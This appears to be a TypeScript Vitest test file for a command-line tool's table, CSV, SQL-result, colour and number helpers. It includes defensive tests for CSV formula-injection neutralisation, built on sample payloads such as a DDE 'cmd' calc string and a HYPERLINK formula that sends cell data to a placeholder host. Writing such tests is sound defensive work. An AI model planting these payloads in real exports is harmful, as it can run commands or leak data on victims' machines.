import { parse as parseCsvText } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { colourEnabled, createColours } from '../colour.js';
import { neutraliseFormula, renderCsv } from '../csv.js';
import { exactNumber } from '../numbers.js';
import { renderRows, truncationNotice } from '../sql-result.js';
import { fitWidths, renderTable } from '../table.js';

describe('renderTable', () => {
  it('pads cells, right-aligns numbers and draws a rule', () => {
    const out = renderTable(
      [{ header: 'account' }, { header: 'balance', align: 'right' }],
      [
        ['chase', '-12.50'],
        ['cash', '3.00'],
      ],
    );
    expect(out).toBe('account  balance\n-------  -------\nchase     -12.50\ncash        3.00\n');
  });

  it('fits the terminal by narrowing the widest column and marking the cut', () => {
    const out = renderTable([{ header: 'id' }, { header: 'note' }], [['1', 'x'.repeat(50)]], {
      maxWidth: 20,
    });
    const lines = out.trimEnd().split('\n');
    for (const line of lines) expect([...line].length).toBeLessThanOrEqual(20);
    expect(lines[2]).toMatch(/…$/);
  });

  it('keeps control characters from breaking rows', () => {
    const out = renderTable([{ header: 'note' }], [['a\nb\tc']]);
    expect(out.split('\n')).toHaveLength(4);
  });

  it('fitWidths stops at a minimum', () => {
    expect(fitWidths([10, 10], 5)).toEqual([4, 4]);
    expect(fitWidths([3, 8], undefined)).toEqual([3, 8]);
  });
});

describe('renderCsv', () => {
  it('quotes what RFC 4180 needs quoted', () => {
    expect(
      renderCsv(
        ['a', 'b'],
        [
          ['x,y', 'say "hi"'],
          ['line\nbreak', 'plain'],
        ],
      ),
    ).toBe('a,b\n"x,y","say ""hi"""\n"line\nbreak",plain\n');
    expect(renderCsv(['a'], [['1']], { crlf: true, header: false })).toBe('1\r\n');
  });
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
  const TAILS = [
    'HYPERLINK("http://x.test?"&A1,"click")',
    "cmd|' /C calc'!A0",
    'SUM(1,2)',
    '1+1',
    'A1',
    '',
    ' ',
    "'",
    '12.50',
    '1e3x',
  ];
  const NUMBERS = [
    '-12.50',
    '-1e3',
    '+3',
    '-0.5',
    '-.5',
    '+1E-7',
    '0',
    '12',
    '1.',
    '-100000000000000000000.01',
  ];
  const TEXT = ['groceries', "'=already quoted", ' =leading space', 'a=b', 'café', '', '1-2', 'x@y.test'];

  /** A deterministic pseudo-random generator (mulberry32), so every run checks the same generated cells. */
  function generator(seed: number): () => number {
    let a = seed;
    return () => {
      a = (a + 0x6d2b79f5) | 0;
      let t = Math.imul(a ^ (a >>> 15), 1 | a);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
  }
  const random = generator(35);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
  const ALPHABET = [
    ...TRIGGERS,
    'a',
    'Z',
    '0',
    '9',
    '.',
    'e',
    ',',
    '"',
    '\n',
    ' ',
    '(',
    ')',
    '|',
    '!',
    "'",
    'é',
  ];
  const generated = Array.from({ length: 2_000 }, () =>
    Array.from({ length: Math.floor(random() * 8) }, () => pick(ALPHABET)).join(''),
  );
  const triggered = TRIGGERS.flatMap((t) => TAILS.map((tail) => `${t}${tail}`));
  const cells = [...triggered, ...NUMBERS, ...TEXT, ...generated];
  const isNumber = (cell: string) => /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);
  const formulaLike = (cell: string) => TRIGGERS.some((t) => cell.startsWith(t)) && !isNumber(cell);

  it('prefixes exactly one quote to a cell that starts with =, +, -, @, tab or CR and is not a number', () => {
    expect(triggered.filter(formulaLike)).toHaveLength(TRIGGERS.length * TAILS.length - 2); // all but +12.50 and -12.50
    for (const cell of cells) {
      const out = neutraliseFormula(cell);
      expect(out, JSON.stringify(cell)).toBe(formulaLike(cell) ? `'${cell}` : cell);
      // Once is enough: the quoted cell no longer starts a formula.
      expect(neutraliseFormula(out)).toBe(out);
    }
    for (const n of NUMBERS) expect(neutraliseFormula(n)).toBe(n);
  });

  it('writes the quoted cells through RFC 4180, and --raw writes every cell back unchanged', () => {
    const rows = Array.from({ length: Math.ceil(cells.length / 5) }, (_, i) => cells.slice(i * 5, i * 5 + 5));
    while (rows.at(-1)!.length < 5) rows.at(-1)!.push('');
    const header = ['=head', 'b', '-c', '@d', 'e'];
    const parse = (csv: string) => parseCsvText(csv, { relax_column_count: false }) as string[][];
    const safe = parse(renderCsv(header, rows));
    expect(safe).toEqual([header, ...rows].map((r) => r.map((c) => (formulaLike(c) ? `'${c}` : c))));
    const raw = parse(renderCsv(header, rows, { raw: true }));
    expect(raw).toEqual([header, ...rows]);
  });

  it('keeps amounts as numbers in a report-like row', () => {
    expect(renderCsv(['category', 'spent'], [['=HYPERLINK("http://x.test","x")', '-12.50']])).toBe(
      'category,spent\n"\'=HYPERLINK(""http://x.test"",""x"")",-12.50\n',
    );
    expect(renderCsv(['note'], [["+cmd|' /C calc'!A0"], ['@SUM(1,2)'], ['-1e3']], { header: false })).toBe(
      `'+cmd|' /C calc'!A0\n"'@SUM(1,2)"\n-1e3\n`,
    );
  });
});

describe('renderRows', () => {
  const statement = {
    index: 0,
    command: 'SELECT' as const,
    columns: [
      { name: 'account_id', type: 'text' },
      { name: 'total', type: 'numeric' },
    ],
    rows: [
      { account_id: 'cash', total: '1.50' },
      { account_id: null, total: '10.00' },
    ],
    rowCount: 250,
    returnedRowCount: 2,
    totalRowCount: 250,
    truncated: true,
  };
  it('renders table, csv and json', () => {
    expect(renderRows(statement, 'table')).toBe(
      'account_id  total\n----------  -----\ncash         1.50\n            10.00\n',
    );
    expect(renderRows(statement, 'csv')).toBe('account_id,total\ncash,1.50\n,10.00\n');
    expect(JSON.parse(renderRows(statement, 'json'))).toEqual(statement.rows);
  });
  it('says how many of how many rows are shown', () => {
    expect(truncationNotice(statement, 100)).toMatch(/^Showing 2 of 250 rows/);
    expect(truncationNotice({ ...statement, truncated: false })).toBeUndefined();
  });
});

describe('colour', () => {
  it('is on only for a terminal without NO_COLOR', () => {
    expect(colourEnabled({ isTTY: true }, {})).toBe(true);
    expect(colourEnabled({ isTTY: false }, {})).toBe(false);
    expect(colourEnabled({ isTTY: true }, { NO_COLOR: '1' })).toBe(false);
    expect(colourEnabled({ isTTY: true }, { TERM: 'dumb' })).toBe(false);
    expect(createColours(false).red('x')).toBe('x');
    expect(createColours(true).red('x')).toBe('\u001b[31mx\u001b[39m');
  });
});

describe('exactNumber', () => {
  it('turns exact numeric strings into numbers and keeps the rest', () => {
    expect(exactNumber('-12.50')).toBe(-12.5);
    expect(exactNumber('0.1')).toBe(0.1);
    expect(exactNumber('42')).toBe(42);
    expect(exactNumber('007')).toBe(7);
    expect(exactNumber('9007199254740993')).toBe('9007199254740993');
    expect(exactNumber('12345678901234567.5')).toBe('12345678901234567.5');
    expect(exactNumber('0.1000000000000000055511151231257827')).toBe('0.1000000000000000055511151231257827');
    expect(exactNumber('abc')).toBe('abc');
    expect(exactNumber(null)).toBe(null);
  });
});
